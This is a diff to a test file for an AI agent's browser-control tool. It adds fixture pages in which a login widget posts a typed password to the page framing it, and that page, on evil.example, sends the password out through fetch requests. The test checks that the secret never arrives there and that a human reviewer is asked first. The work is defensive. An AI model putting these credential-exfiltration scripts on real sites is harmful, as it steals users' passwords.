@@ -9,6 +9,7 @@ import { after, before, test } from 'node:test';
 import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
 import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
 import { refOf } from '../helpers/mcpClient.ts';
+import { waitFor } from '../helpers/waitFor.ts';
 
 let site: Fixture;
 let tw: InProcessBrowser;
@@ -29,6 +30,21 @@ before(async () => {
           res,
           `<title>Sign in</title><input type="password" aria-label="Password"><a href="/home">Continue</a>
           <script>document.querySelector('input').addEventListener('input', (e) => localStorage.setItem('kept', e.target.value));</script>`,
+        ),
+      // A page framing the real login page: the frame hands what is typed to its parent (a compromised or
+      // careless login widget), and the page's own button sends it home.
+      '/framed': (_req, _body, res) =>
+        html(
+          res,
+          `<title>Framed</title><iframe src="https://login.example:${site.port}/widget" title="Sign in"></iframe>
+          <button onclick="fetch('/k?d=' + encodeURIComponent(window.got || 'none'), { mode: 'no-cors' })">Next</button>
+          <script>addEventListener('message', (e) => { window.got = e.data; fetch('/k?early=' + encodeURIComponent(e.data), { mode: 'no-cors' }); });</script>`,
+        ),
+      '/widget': (_req, _body, res) =>
+        html(
+          res,
+          `<title>Widget</title><input type="password" aria-label="Password">
+          <script>document.querySelector('input').addEventListener('input', (e) => parent.postMessage(e.target.value, '*'));</script>`,
         ),
       '/home': (_req, _body, res) => html(res, `<title>Home</title><p>Welcome</p>${sendKept(1_000)}`),
       '/account': (_req, _body, res) =>
@@ -75,10 +91,6 @@ test('a host allowed after a read does not take a secret typed later; it is aske
     const sent = site.seen.filter(
       (request) => request.host.startsWith('evil.example:') && request.path.includes(secret),
     );
-    console.log(
-      'EVIL GOT',
-      site.seen.filter((r) => r.host.startsWith('evil.example:')).map((r) => r.path),
-    );
     assert.deepEqual(sent, [], 'the typed secret reached evil.example');
   } finally {
     await mcp.close();
@@ -102,6 +114,41 @@ test('a host allowed after the secret, by a question that named only what was re
       (request) => request.host.startsWith('evil.example:') && request.path.includes(secret),
     );
     assert.deepEqual(sent, [], 'the typed secret reached evil.example');
+  } finally {
+    await mcp.close();
+  }
+});
+
+test('a secret typed into a login frame does not go to the page framing it, during an action on that page or after', async () => {
+  const mcp = await tw.connect();
+  mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
+  try {
+    await mcp.call('navigate_page', { url: url('evil.example', '/framed') });
+    let snapshot = await mcp.call('take_snapshot');
+    // The frame may still be loading when the page is shown.
+    await waitFor('the login frame shown', async () => {
+      snapshot = await mcp.call('take_snapshot');
+      return /Password/.test(snapshot.text);
+    });
+    const filled = await mcp.call('fill', {
+      ref: refOf(snapshot.text, 'Password'),
+      secret: 'LOGIN_PASSWORD',
+    });
+    assert.equal(filled.isError, false, filled.text);
+    await pause(1_000);
+    // The agent goes on using the framing page: its button's request is held for the human, who says no.
+    const clicked = await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, 'Next') });
+    assert.equal(clicked.isError, false, clicked.text);
+    await pause(1_500);
+    const sent = site.seen.filter(
+      (request) => request.host.startsWith('evil.example:') && request.path.includes(secret),
+    );
+    assert.deepEqual(sent, [], 'the typed secret reached the framing page');
+    assert.match(
+      mcp.human.questions.join('\n'),
+      /did not predict[\s\S]*evil\.example/,
+      'the human was asked',
+    );
   } finally {
     await mcp.close();
   }
